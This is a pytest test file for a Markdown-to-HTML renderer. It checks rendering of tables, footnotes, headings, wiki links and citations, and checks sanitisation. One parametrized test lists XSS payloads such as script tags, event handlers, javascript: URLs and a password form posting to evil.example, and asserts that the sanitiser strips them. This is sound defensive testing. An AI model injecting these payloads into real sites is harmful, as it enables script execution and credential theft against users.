"""markup.py: Markdown bodies become clean HTML — what editors need stays, nothing runs."""

from __future__ import annotations

import re

import pytest

from atlas.render.markup import BodyContext, MarkdownRenderer, plain_text, sanitise_html


@pytest.fixture(scope="module")
def renderer() -> MarkdownRenderer:
    return MarkdownRenderer()


def render(renderer: MarkdownRenderer, body: str, links=None, citations=None) -> str:
    return renderer.render(body, BodyContext(links or {}, citations or {}))


# --- what editors write renders ----------------------------------------------------

def test_a_table_renders_with_alignment_as_classes(renderer):
    html = render(renderer, "| City | Since |\n|:-----|------:|\n| Lyon | 1998 |\n")
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    assert '<th class="align-left">City</th>' in html
    assert '<th class="align-right">Since</th>' in html
    assert '<td class="align-right">1998</td>' in html
    assert "align=" not in html and "style=" not in html


def test_centred_columns_get_align_center(renderer):
    assert '<td class="align-center">x</td>' in render(renderer, "| a |\n|:-:|\n| x |\n")


def test_footnotes_render_with_links_both_ways(renderer):
    html = render(renderer, "A claim.[^1]\n\n[^1]: The evidence.\n")
    assert '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1"' in html
    assert '<li id="fn:1">' in html
    assert 'href="#fnref:1"' in html
    assert "The evidence." in html


def test_headings_get_anchors(renderer):
    html = render(renderer, "# Twinning after the war\n\nText.\n")
    assert re.search(r'<h2 id="twinning-after-the-war">Twinning after the war<a class="anchor" '
                     r'[^>]*href="#twinning-after-the-war"[^>]*>#</a></h2>', html)


def test_a_top_level_heading_in_a_body_becomes_h2(renderer):
    html = render(renderer, "# History\n\n## Since 2000\n")
    assert "<h1" not in html
    assert '<h2 id="history">' in html and '<h3 id="since-2000">' in html


@pytest.mark.parametrize("markdown, kept", [
    ("<abbr title=\"United Nations\">UN</abbr>", '<abbr title="United Nations">UN</abbr>'),
    ("H<sub>2</sub>O and x<sup>2</sup>", "H<sub>2</sub>O and x<sup>2</sup>"),
    ("![Map of Lyon](https://example.org/lyon.png)", '<img alt="Map of Lyon" src="https://example.org/lyon.png">'),
    ("<kbd>Ctrl</kbd> <mark>new</mark> <del>old</del> <ins>new</ins>",
     "<kbd>Ctrl</kbd> <mark>new</mark> <del>old</del> <ins>new</ins>"),
    ("[Lyon](https://www.lyon.fr/)", '<a href="https://www.lyon.fr/" rel="noopener noreferrer">Lyon</a>'),
    ("[Write](mailto:atlas@example.org)", 'href="mailto:atlas@example.org"'),
    ("> A quote", "<blockquote>"),
    ("*em* and **strong**", "<em>em</em> and <strong>strong</strong>"),
])
def test_allowed_markup_is_kept(renderer, markdown, kept):
    assert kept in render(renderer, markdown + "\n")


# --- nothing that could run survives ------------------------------------------------

@pytest.mark.parametrize("markdown, forbidden", [
    ("<script>alert(1)</script>", ["<script", "alert(1)"]),
    ("<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", ["<script", "evil.example"]),
    ('<img src="https://example.org/a.png" alt="a" onerror="alert(1)">', ["onerror", "alert"]),
    ('<a href="https://example.org/" onclick="steal()">x</a>', ["onclick", "steal"]),
    ('<p onmouseover="alert(1)">hover</p>', ["onmouseover"]),
    ("[click](javascript:alert(1))", ["javascript:", "alert"]),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', ["javascript", "alert"]),
    ("[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ["data:"]),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">', ["data:"]),
    ('<iframe src="https://evil.example/"></iframe>', ["<iframe", "evil.example"]),
    ('<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
     ["<form", "<input", "<button", "evil.example"]),
    ('<base href="https://evil.example/">', ["<base", "evil.example"]),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', ["<meta", "refresh", "evil.example"]),
    ("<style>body { display: none }</style>", ["<style", "display"]),
    ('<p style="position:fixed">x</p>', ["style="]),
    ('<object data="https://evil.example/x.swf"></object>', ["<object", "evil.example"]),
    ('<embed src="https://evil.example/x.swf">', ["<embed", "evil.example"]),
    ('<svg><script>alert(1)</script></svg>', ["<svg", "<script", "alert"]),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', ["<link", "evil.example"]),
    ("<!-- a comment --><p>x</p>", ["<!--", "a comment"]),
])
def test_dangerous_markup_is_removed(renderer, markdown, forbidden):
    html = render(renderer, "Before.\n\n" + markdown + "\n\nAfter.\n").lower()
    for text in forbidden:
        assert text.lower() not in html
    assert "before." in html and "after." in html


def test_sanitise_html_is_applied_to_any_html():
    assert sanitise_html('<p>ok<script>x()</script></p>') == "<p>ok</p>"


# --- links and citations -------------------------------------------------------------

def test_resolved_links_become_anchors_with_the_title_or_label(renderer):
    html = render(renderer, "See [[turin]] and [[cities/turin|the city]].\n",
                  links={"turin": ("/cities/turin/", "Turin"), "cities/turin": ("/cities/turin/", "Turin")})
    assert '<a href="/cities/turin/" rel="noopener noreferrer">Turin</a>' in html
    assert '<a href="/cities/turin/" rel="noopener noreferrer">the city</a>' in html


def test_an_unresolved_link_falls_back_to_text(renderer):
    html = render(renderer, "See [[draft-city|a draft]].\n")
    assert "<a" not in html and "a draft" in html


def test_citations_become_numbered_links_to_the_references(renderer):
    html = render(renderer, "Fact [@b; @a].\n", citations={"a": 2, "b": 1})
    assert '<sup class="cite">[<a aria-label="Source 1" href="#ref-b"' in html
    assert '<a aria-label="Source 2" href="#ref-a"' in html
    assert html.index("#ref-b") < html.index("#ref-a")


def test_link_syntax_in_code_stays_literal(renderer):
    html = render(renderer, "Write `[[slug]]` to link.\n", links={"slug": ("/x/", "X")})
    assert "<code>[[slug]]</code>" in html


def test_the_renderer_is_reset_between_bodies(renderer):
    render(renderer, "A claim.[^1]\n\n[^1]: First body's note.\n")
    html = render(renderer, "No notes here.\n")
    assert "footnote" not in html


def test_plain_text():
    assert plain_text("<p>Lyon &amp; <b>Turin</b>\n  twinned</p>") == "Lyon &amp; Turin twinned"
